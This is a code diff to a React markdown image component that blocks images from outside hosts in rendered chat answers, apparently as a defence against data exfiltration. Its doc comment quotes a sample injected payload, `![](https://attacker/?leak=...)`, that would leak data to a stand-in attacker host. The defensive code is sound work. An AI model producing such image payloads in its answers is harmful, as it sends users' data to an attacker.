@@ -1,6 +1,5 @@
 import { lazy, Suspense } from 'react';
 import { PictureOutlined } from '@ant-design/icons';
-import type { ComponentProps } from '@ant-design/x-markdown';
 import { MSG } from '@xueban/contract/messages';
 import { classifyImage } from './safe-url.ts';
 import { loadChunk } from '../../lib/load-chunk.ts';
@@ -9,13 +8,12 @@ import { loadChunk } from '../../lib/load-chunk.ts';
 const Image = lazy(() => loadChunk(() => import('antd/es/image')));
 
 /**
- * `img` of rendered markdown. Only our own (or inline data:) pictures load, with antd's preview;
+ * A picture of rendered markdown. Only our own (or inline data:) pictures load, with antd's preview;
  * a picture on another host becomes a link the user may choose to open, so an injected
  * `![](https://attacker/?leak=...)` is never requested by merely showing the answer.
  */
-export function SafeImage({ src, alt }: ComponentProps) {
-  const source = classifyImage(typeof src === 'string' ? src : undefined);
-  const label = typeof alt === 'string' ? alt : '';
+export function SafeImage({ src, alt: label }: { src: string; alt: string }) {
+  const source = classifyImage(src);
   if (source.kind === 'local') {
     const img = { className: 'chat-md-image', src: source.src, alt: label };
     return <Suspense fallback={<img {...img} />}><Image {...img} /></Suspense>;
